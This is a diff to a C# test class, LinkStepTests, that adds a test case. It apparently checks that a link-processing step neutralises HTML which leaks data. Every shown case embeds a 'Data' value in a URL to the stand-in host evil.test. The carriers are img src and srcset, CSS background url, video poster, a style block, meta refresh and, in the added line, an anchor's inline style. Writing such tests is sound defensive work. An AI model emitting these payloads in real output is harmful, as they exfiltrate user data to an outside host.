@@ -43,6 +43,7 @@ internal sealed class LinkStepTests
     [TestCase("<img/src={https://evil.test/?" + Data + "}>")]
     [TestCase("<img\nsrcset=\"{https://evil.test/1?" + Data + "} 1x, {//evil.test/2?" + Data + "} 2x\">")]
     [TestCase("<div style=\"background: url({https://evil.test/?" + Data + "})\">text</div>")]
+    [TestCase("<a style='background:url({https://evil.test/?" + Data + "})' href=/a>text</a>")]
     [TestCase("<video poster='{https://evil.test/?" + Data + "}'></video>")]
     [TestCase("<style>p { background: url({https://evil.test/?" + Data + "}) }</style>")]
     [TestCase("<meta http-equiv=refresh content='0;url={https://evil.test/?" + Data + "}'>")]
